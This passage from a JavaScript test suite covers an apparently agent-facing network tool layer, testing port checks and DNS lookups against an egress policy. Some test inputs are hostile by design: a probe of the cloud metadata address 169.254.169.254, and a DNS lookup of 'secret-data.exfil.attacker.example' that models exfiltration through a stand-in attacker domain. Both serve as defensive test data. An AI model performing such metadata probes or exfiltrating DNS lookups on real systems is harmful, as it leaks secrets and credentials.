    const e = await fails(
      "network.port_check",
      { host: "169.254.169.254", port: 80 },
      "EgressDenied",
    );
    assert.equal(e.rule, "egress.default-deny");
  });

  test("a host that is neither a name nor an address is refused before connecting", async () => {
    const mark = egress.sent.length;
    await fails("network.port_check", { host: "a.example:80@b", port: 443 }, "InvalidParams");
    await fails("network.port_check", { host: "evil.example/x", port: 443 }, "InvalidParams");
    assert.equal(sentSince(mark).length, 0);
  });
});

describe("network.dns_lookup", () => {
  test("records come back as text for the type asked", async () => {
    egress.script = {
      lookup: async (_h, type) =>
        type === "MX"
          ? { records: ["10 mx1.example.com", "20 mx2.example.com"], refused: [] }
          : { records: ["93.184.216.34"], refused: [] },
    };
    const mark = egress.sent.length;
    assert.deepEqual(await call("network.dns_lookup", { hostname: "example.com" }), {
      hostname: "example.com",
      record_type: "A",
      records: ["93.184.216.34"],
    });
    const mx = await call("network.dns_lookup", { hostname: "example.com", record_type: "MX" });
    assert.deepEqual(mx.records, ["10 mx1.example.com", "20 mx2.example.com"]);
    assert.deepEqual(sentSince(mark)[1]?.args, ["example.com", "MX"]);
    assert.equal(sentSince(mark)[0]?.who.agent, "researcher");
  });

  test("addresses the proxy would refuse are still reported, once", async () => {
    egress.script = {
      lookup: async () => ({
        records: ["93.184.216.34", "10.1.2.3"],
        refused: ["10.1.2.3", "127.0.0.1"],
      }),
    };
    const out = await call("network.dns_lookup", { hostname: "mixed.example.com" });
    assert.deepEqual(out.records, ["93.184.216.34", "10.1.2.3", "127.0.0.1"]);
  });

  test("a name the policy does not allow is EgressDenied; NXDOMAIN and empty answers are NotFound; a slow resolver is Timeout", async () => {
    egress.script = { lookup: async () => Promise.reject(policyDenied("exfil.attacker.example")) };
    const e = await fails(
      "network.dns_lookup",
      { hostname: "secret-data.exfil.attacker.example" },
      "EgressDenied",
    );
    assert.equal(e.policy, "system");
    egress.script = { lookup: async () => Promise.reject(netFailure("DnsError", "ENOTFOUND")) };
    await fails("network.dns_lookup", { hostname: "nope.example.com" }, "NotFound");
    egress.script = {
      lookup: async () => Promise.reject(netFailure("NotFound", "nope.example.com A: ENOTFOUND")),
    };
    await fails("network.dns_lookup", { hostname: "nope.example.com" }, "NotFound");
    egress.script = { lookup: async () => ({ records: [], refused: [] }) };
    await fails("network.dns_lookup", { hostname: "example.com", record_type: "CAA" }, "NotFound");
    egress.script = {
      lookup: async () => Promise.reject(netFailure("Timeout", "resolver timed out")),
    };
    await fails("network.dns_lookup", { hostname: "slow.example.com" }, "Timeout");
  });
});
